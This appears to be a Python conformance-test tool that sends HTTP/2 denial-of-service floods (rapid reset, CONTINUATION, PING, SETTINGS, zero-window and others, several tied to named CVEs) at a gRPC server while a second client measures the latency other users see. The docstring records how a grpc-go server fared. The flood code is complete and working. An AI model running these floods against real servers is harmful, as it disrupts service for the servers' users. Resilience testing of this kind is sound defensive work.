#!/usr/bin/env python3
"""HTTP/2 floods on one plain h2c connection (prior knowledge) to a gRPC
server, and a `victim` client that measures how the server treats everyone
else meanwhile. Used by tests/conformance.rs; runs by hand too:

    h2flood.py HOST:PORT MODE [N] [--timeout S] [--linger S] [--hold S] [--room R] [--no-read]

Modes (N: how many; each prints ONE JSON line at the end):
  rapid-reset N    N streams, each HEADERS for POST /chat.ChatService/SendMessage
                   (content-type application/grpc, te: trailers) immediately followed
                   by RST_STREAM(CANCEL); written in batches, as fast as the socket takes
                   them (CVE-2023-44487).
  ping N           N PING frames (CVE-2019-9512).
  settings N       N SETTINGS frames, each with ENABLE_PUSH=0, INITIAL_WINDOW_SIZE=65535
                   (each needs an ACK; CVE-2019-9515).
  continuation N   one HEADERS (SendMessage) without END_HEADERS, then CONTINUATION frames
                   of ~16 KB of junk header fields each, never END_HEADERS, until the server
                   closes or N frames (the 2024 "CONTINUATION flood").
  empty-frames N   one open SendMessage stream, then N zero-length DATA frames on it
                   (CVE-2019-9518).
  window-update N  N WINDOW_UPDATE frames (increment 1) on the connection.
  zero-window S    SETTINGS_INITIAL_WINDOW_SIZE=0, then S SubscribeMessages streams for
                   room --room; no WINDOW_UPDATE ever; then reads NOTHING for --hold seconds
                   (the server cannot send a byte of DATA: what does it keep meanwhile?).
  victim           a grpcio client (own connection) calling SendMessage to room --room every
                   --interval-ms with a 2 s deadline; prints READY once the first call
                   answered, runs until stdin closes (or --timeout), then prints
                   {"ok", "failed", "errors", "p50_ms", "p99_ms", "max_ms"}.

Flood JSON: {"mode", "n", "frames_sent", "bytes_sent", "send_seconds", "elapsed",
  "goaway": null | {"code", "name", "last_stream_id", "debug", "at"}, "closed",
  "closed_at", "disconnected" (goaway or closed), "send_error", "received": {frame type:
  count}, "server_settings", "timed_out"}. Times are seconds since connect.

Never hangs: every socket operation has a timeout, the whole run is bounded by --timeout
(default 60 s; a watchdog prints the JSON with "timed_out": true and exits 3 past it).
Exit code 0 whatever the server did; 2 when it cannot be reached.

Frames are built by hand from h2's own layers (hpack for the header blocks, h2.errors /
h2.settings for the codes), not h2.H2Connection: its state machine refuses to produce
most floods (a HEADERS without END_HEADERS, frames on reset streams) and would cost tens
of microseconds a stream. The server's frames are parsed by hand too (only GOAWAY,
SETTINGS and PING are decoded; the rest counted), so reading never slows the flood.
SETTINGS and PING from the server are ACKed (queued behind the current write batch) unless
--no-read, which reads nothing until the flood is sent (then drains --linger seconds).

Observed against the seed's grpc-go 1.33 server (Debian, /tmp/peers/bin/seed-go-server,
MaxConcurrentStreams(1000)), on this 2-core machine, with the victim running alongside
(resident memory of the server from /proc; the victim's p99 over the run; 0 failures in all):
  rapid-reset 600000  all 600,000 streams taken in ~10 s (the server reads ~60k streams/s;
                      the writer waits on it), no GOAWAY, connection kept. RSS 8.7 -> peak
                      24.6 MiB. Victim p99 25-32 ms, max 48 ms.
  ping 100000         GOAWAY ENHANCE_YOUR_CALM (11) "too_many_pings" after 4 PING ACKs,
                      ~7 ms in, then closed. RSS flat. (Same with --no-read.)
  settings 100000     every SETTINGS ACKed (100,001 ACKs), no GOAWAY. RSS +5 MiB, p99 6 ms.
                      --no-read (1,000,000): the server stops reading once its ACKs queue
                      up (our write blocked 10 s after 606,000 frames); RSS +3.5 MiB.
  continuation 10000  160 MB of header block read and thrown away (grpc-go drops fields
                      past its header list limit but keeps reading CONTINUATION), no GOAWAY
                      nor close. RSS 8.7 -> 29.8 MiB, p99 5 ms.
  empty-frames 1e6    no GOAWAY (the server sends BDP PINGs meanwhile). RSS +1 MiB, p99 5 ms.
  window-update 1e6   no GOAWAY. RSS +5.6 MiB, p99 6 ms.
  zero-window 1000    (--hold 10, the victim publishing 50/s into the same --room) 1,000
                      response HEADERS, no DATA, no GOAWAY. RSS 8.7 -> 123 MiB: grpc-go
                      queues every message for every stuck stream (up to its 64 KiB write
                      quota per stream). Victim p99 18-20 ms, max 243-709 ms. With the
                      victim in another room: RSS 8.4 -> 21 MiB.
So under tests/conformance.rs's bounds the Go server passes the ping flood only: no
disconnect for the other five, and the zero-window growth is over 64 MiB.
"""

import argparse
import json
import os
import socket
import struct
import sys
import threading
import time

import hpack
from h2.errors import ErrorCodes
from h2.settings import SettingCodes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE",
               "PING", "GOAWAY", "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SEND_MESSAGE = "/chat.ChatService/SendMessage"
SUBSCRIBE = "/chat.ChatService/SubscribeMessages"


def frame(kind, flags, stream_id, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes((kind, flags))
            + struct.pack(">I", stream_id & 0x7FFFFFFF) + payload)


def settings_payload(pairs):
    return b"".join(struct.pack(">HI", int(k), v) for k, v in pairs)


def pb_string(field, value):
    raw = value.encode()
    n, varint = len(raw), bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        varint.append(byte | (0x80 if n else 0))
        if not n:
            break
    return bytes([(field << 3) | 2]) + bytes(varint) + raw


def grpc_message(body):
    return b"\x00" + struct.pack(">I", len(body)) + body


def send_message_request(room, user, content):
    # chat.proto SendMessageRequest: user = 1, content = 2, room = 3.
    return pb_string(1, user) + pb_string(2, content) + pb_string(3, room)


def subscribe_request(room, user):
    # chat.proto SubscribeRequest: room = 1, user = 2.
    return pb_string(1, room) + pb_string(2, user)


def header_block(authority, path):
    """The request headers, literal never-indexed: stateless bytes that can be resent
    on any number of streams."""
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path),
               (":authority", authority), ("content-type", "application/grpc"),
               ("te", "trailers")]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers],
                                  huffman=False)


def junk_block(size=16384):
    """Whole junk header fields (never indexed, new name), as many as fit in size."""
    one = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-junk", "a" * 1000)],
                                 huffman=False)
    return one * (size // len(one))


def error_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"UNKNOWN_{code}"


class Offender:
    """The flooding connection. A reader thread drains what the server sends (so our
    receive window never stops it), ACKs its SETTINGS and PINGs, and notes GOAWAY and
    the connection closing."""

    def __init__(self, host, port, timeout, settings=()):
        self.t0 = time.monotonic()
        self.deadline = self.t0 + timeout
        self.sock = socket.create_connection((host, port), timeout=min(10, timeout))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.settimeout(10)
        self.closed = threading.Event()
        self.closed_at = None
        self.goaway = None
        self.received = {}
        self.server_settings = None
        self.frames_sent = 0
        self.bytes_sent = 0
        self.send_error = None
        self.send_seconds = None
        self.write_lock = threading.Lock()
        self.pending = []  # ACKs for the writer to send with its next batch
        self.pending_lock = threading.Lock()
        self.buf = bytearray()
        self.reader = None
        self.write(PREFACE + frame(SETTINGS, 0, 0, settings_payload(settings)), frames=1)

    def now(self):
        return round(time.monotonic() - self.t0, 3)

    def remaining(self):
        return self.deadline - time.monotonic()

    # --- writing ----------------------------------------------------------------
    def write(self, data, frames):
        with self.pending_lock:
            acks, self.pending = self.pending, []
        with self.write_lock:
            if acks:
                data = b"".join(acks) + data
            self.sock.sendall(data)
        self.frames_sent += frames
        self.bytes_sent += len(data)

    def flush_acks(self):
        with self.pending_lock:
            acks, self.pending = self.pending, []
        if acks:
            try:
                with self.write_lock:
                    self.sock.sendall(b"".join(acks))
            except OSError:
                pass

    def flood(self, batches):
        """Writes each (bytes, frames) of `batches` (made lazily), until done, the
        connection closes, a write blocks for 10 s, or the deadline."""
        if self.send_error:
            return
        start = time.monotonic()
        try:
            for data, frames in batches:
                if self.closed.is_set():
                    break
                if self.remaining() <= 0:
                    self.send_error = "deadline"
                    break
                self.sock.settimeout(max(0.1, min(10, self.remaining())))
                self.write(data, frames)
        except socket.timeout:
            self.send_error = "a write blocked for 10 s (the server stopped reading)"
        except OSError as e:
            self.send_error = f"{type(e).__name__}: {e}"
        self.send_seconds = round(time.monotonic() - start, 3)

    # --- reading ----------------------------------------------------------------
    def start_reader(self):
        if self.reader is None:
            self.reader = threading.Thread(target=self._read_loop, daemon=True)
            self.reader.start()

    def _read_loop(self):
        try:
            while self.remaining() > -5:
                try:
                    data = self.sock.recv(1 << 18)
                except socket.timeout:
                    continue
                if not data:
                    break
                self._parse(data, queue_acks=True)
        except OSError:
            pass
        self.closed_at = self.now()
        self.closed.set()

    def read_until(self, cond, seconds):
        """Reads on this thread (no reader thread yet) until cond() or seconds pass."""
        end = time.monotonic() + seconds
        while not cond() and time.monotonic() < end and not self.closed.is_set():
            self.sock.settimeout(max(0.05, end - time.monotonic()))
            try:
                data = self.sock.recv(1 << 18)
            except socket.timeout:
                break
            except OSError:
                data = b""
            if not data:
                self.closed_at = self.now()
                self.closed.set()
                break
            self._parse(data, queue_acks=False)
            self.flush_acks()

    def _parse(self, data, queue_acks):
        buf = self.buf
        buf += data
        pos = 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            name = FRAME_NAMES[kind] if kind < len(FRAME_NAMES) else f"TYPE_{kind}"
            if kind in (SETTINGS, PING) and flags & ACK:
                name += "_ACK"
            self.received[name] = self.received.get(name, 0) + 1
            if kind in (SETTINGS, PING, GOAWAY):
                payload = bytes(buf[pos + 9:pos + 9 + length])
                if kind == SETTINGS and not flags & ACK:
                    if self.server_settings is None:
                        self.server_settings = {}
                        for i in range(0, len(payload) - 5, 6):
                            key, value = struct.unpack(">HI", payload[i:i + 6])
                            try:
                                key = SettingCodes(key).name
                            except ValueError:
                                key = str(key)
                            self.server_settings[key] = value
                    self._ack(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK:
                    self._ack(frame(PING, ACK, 0, payload))
                elif kind == GOAWAY and len(payload) >= 8:
                    last, code = struct.unpack(">II", payload[:8])
                    self.goaway = {"code": code, "name": error_name(code),
                                   "last_stream_id": last & 0x7FFFFFFF,
                                   "debug": payload[8:200].decode("utf-8", "replace"),
                                   "at": self.now()}
            pos += 9 + length
        del buf[:pos]

    def _ack(self, data):
        with self.pending_lock:
            self.pending.append(data)
        # While no flood batch is being written, send it now; the write lock is only
        # tried, never waited for, so the reader never stops reading.
        if self.write_lock.acquire(blocking=False):
            try:
                with self.pending_lock:
                    acks, self.pending = self.pending, []
                if acks:
                    self.sock.sendall(b"".join(acks))
            except OSError:
                pass
            finally:
                self.write_lock.release()

    def linger(self, seconds):
        """Waits up to `seconds` for the server to close the connection, ACKing."""
        end = min(time.monotonic() + seconds, self.deadline)
        while time.monotonic() < end and not self.closed.is_set():
            self.flush_acks()
            self.closed.wait(0.05)

    def report(self, mode, n, **extra):
        out = {
            "mode": mode,
            "n": n,
            "frames_sent": self.frames_sent,
            "bytes_sent": self.bytes_sent,
            "send_seconds": self.send_seconds,
            "elapsed": self.now(),
            "goaway": self.goaway,
            "closed": self.closed.is_set(),
            "closed_at": self.closed_at,
            "disconnected": bool(self.goaway) or self.closed.is_set(),
            "send_error": self.send_error,
            "received": self.received,
            "server_settings": self.server_settings,
            "timed_out": False,
        }
        out.update(extra)
        return out


def repeat_flood(off, one_frame, n, per_batch=2000):
    """n copies of one frame, written per_batch at a time."""
    full = one_frame * per_batch

    def batches():
        left = n
        while left > 0:
            k = min(per_batch, left)
            yield (full if k == per_batch else one_frame * k), k
            left -= k

    off.flood(batches())


def run_flood(args):
    host, port = args.addr.rsplit(":", 1)
    mode, n = args.mode, args.n
    settings = []
    if mode == "zero-window":
        settings = [(SettingCodes.INITIAL_WINDOW_SIZE, 0)]
    try:
        off = Offender(host or "127.0.0.1", int(port), args.timeout, settings)
    except OSError as e:
        print(json.dumps({"mode": mode, "n": n, "error": f"connect: {e}"}), flush=True)
        sys.exit(2)

    def watchdog():
        rep = off.report(mode, n)
        rep["timed_out"] = True
        print(json.dumps(rep), flush=True)
        os._exit(3)

    timer = threading.Timer(args.timeout + 5, watchdog)
    timer.daemon = True
    timer.start()

    # Wait (briefly) for the server's SETTINGS, so that what we send is judged under
    # the settings both sides agreed.
    off.read_until(lambda: off.server_settings is not None, min(5, args.timeout))
    if not args.no_read and mode != "zero-window":
        off.start_reader()

    block = header_block(args.addr, SEND_MESSAGE)
    extra = {}
    if mode == "rapid-reset":
        h_prefix = struct.pack(">I", len(block))[1:] + bytes((HEADERS, END_HEADERS))
        r_prefix = frame(RST_STREAM, 0, 0, struct.pack(">I", ErrorCodes.CANCEL))[:5]
        cancel = struct.pack(">I", ErrorCodes.CANCEL)

        def batches(per_batch=1000):
            for first in range(0, n, per_batch):
                k = min(per_batch, n - first)
                parts = []
                for sid in range(1 + 2 * first, 1 + 2 * (first + k), 2):
                    s = sid.to_bytes(4, "big")
                    parts += (h_prefix, s, block, r_prefix, s, cancel)
                yield b"".join(parts), 2 * k

        off.flood(batches())
        extra["streams_sent"] = (off.frames_sent - 1) // 2
    elif mode == "ping":
        repeat_flood(off, frame(PING, 0, 0, b"h2flood!"), n)
    elif mode == "settings":
        payload = settings_payload([(SettingCodes.ENABLE_PUSH, 0),
                                    (SettingCodes.INITIAL_WINDOW_SIZE, 65535)])
        repeat_flood(off, frame(SETTINGS, 0, 0, payload), n)
    elif mode == "window-update":
        repeat_flood(off, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), n)
    elif mode == "empty-frames":
        off.flood([(frame(HEADERS, END_HEADERS, 1, block), 1)])
        repeat_flood(off, frame(DATA, 0, 1, b""), n)
    elif mode == "continuation":
        off.flood([(frame(HEADERS, 0, 1, block), 1)])
        # 2 MiB a batch: about 128 frames of 16 KB.
        repeat_flood(off, frame(CONTINUATION, 0, 1, junk_block()), n, per_batch=128)
    elif mode == "zero-window":
        body = grpc_message(subscribe_request(args.room, "zw"))
        sub = header_block(args.addr, SUBSCRIBE)
        parts = []
        for k in range(n):
            sid = 1 + 2 * k
            parts += (frame(HEADERS, END_HEADERS, sid, sub), frame(DATA, END_STREAM, sid, body))
        off.flood([(b"".join(parts), 2 * n)])
        # Hold the connection, reading nothing; stop early only at the deadline.
        held = time.monotonic()
        hold_end = min(held + args.hold, off.deadline - args.linger - 1)
        while time.monotonic() < hold_end:
            time.sleep(0.05)
        extra["held_seconds"] = round(time.monotonic() - held, 3)
        off.start_reader()
    else:
        sys.exit(f"unknown mode {mode!r}")

    if off.reader is None:
        off.start_reader()
    off.linger(args.linger)
    timer.cancel()
    print(json.dumps(off.report(mode, n, **extra)), flush=True)


def run_victim(args):
    import grpc

    channel = grpc.insecure_channel(args.addr, options=[("grpc.enable_http_proxy", 0)])
    # No stubs: request and response stay bytes (hand-encoded protobuf).
    call = channel.unary_unary(SEND_MESSAGE)
    request = send_message_request(args.room, "victim", "x")
    t0 = time.monotonic()
    deadline = t0 + args.timeout
    stop = threading.Event()
    latencies, errors = [], []
    failed = 0

    try:
        reply = call(request, timeout=min(10, args.timeout))
        assert reply[:1] == b"\x0a", f"unexpected SendMessageResponse {reply!r}"
    except Exception as e:  # noqa: BLE001 (any failure is reported, not raised)
        print(json.dumps({"mode": "victim", "error": f"first call: {e}"}), flush=True)
        sys.exit(2)
    print("READY", flush=True)

    def stdin_closed():
        try:
            while sys.stdin.buffer.read(4096):
                pass
        except (OSError, ValueError):
            pass
        stop.set()

    threading.Thread(target=stdin_closed, daemon=True).start()
    interval = args.interval_ms / 1000
    while not stop.is_set() and time.monotonic() < deadline:
        t = time.monotonic()
        try:
            reply = call(request, timeout=2)
            if reply[:1] != b"\x0a":
                raise ValueError(f"unexpected reply {reply[:20]!r}")
            latencies.append((time.monotonic() - t) * 1000)
        except Exception as e:  # noqa: BLE001
            failed += 1
            code = getattr(e, "code", None)
            what = code() if callable(code) else type(e).__name__
            errors.append(f"{what} after {round((time.monotonic() - t) * 1000)} ms")
        stop.wait(max(0, interval - (time.monotonic() - t)))
    lat = sorted(latencies)

    def pct(p):
        return round(lat[min(len(lat) - 1, int(len(lat) * p))], 2) if lat else None

    print(json.dumps({
        "mode": "victim", "ok": len(lat), "failed": failed, "errors": errors[:5],
        "p50_ms": pct(0.5), "p99_ms": pct(0.99), "max_ms": round(lat[-1], 2) if lat else None,
        "seconds": round(time.monotonic() - t0, 3),
        "timed_out": not stop.is_set(),
    }), flush=True)
    channel.close()


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("addr", help="HOST:PORT of the gRPC server (h2c)")
    p.add_argument("mode", choices=["rapid-reset", "ping", "settings", "continuation",
                                    "empty-frames", "window-update", "zero-window", "victim"])
    p.add_argument("n", nargs="?", type=int, default=None,
                   help="frames (streams for rapid-reset and zero-window)")
    p.add_argument("--timeout", type=float, default=60, help="bound on the whole run, s")
    p.add_argument("--linger", type=float, default=2,
                   help="after the flood, wait this long for GOAWAY / close, s")
    p.add_argument("--hold", type=float, default=10, help="zero-window: hold time, s")
    p.add_argument("--room", default=None,
                   help="room of the zero-window subscribers / the victim's messages")
    p.add_argument("--interval-ms", type=float, default=20, help="victim: call interval")
    p.add_argument("--no-read", action="store_true",
                   help="read nothing from the server until the flood is sent")
    args = p.parse_args()
    defaults = {"rapid-reset": 100000, "ping": 100000, "settings": 100000,
                "continuation": 10000, "empty-frames": 1000000, "window-update": 100000,
                "zero-window": 1000}
    if args.n is None:
        args.n = defaults.get(args.mode, 0)
    if args.room is None:
        args.room = "victim" if args.mode == "victim" else "flood"
    if args.mode == "victim":
        run_victim(args)
    else:
        run_flood(args)


if __name__ == "__main__":
    main()
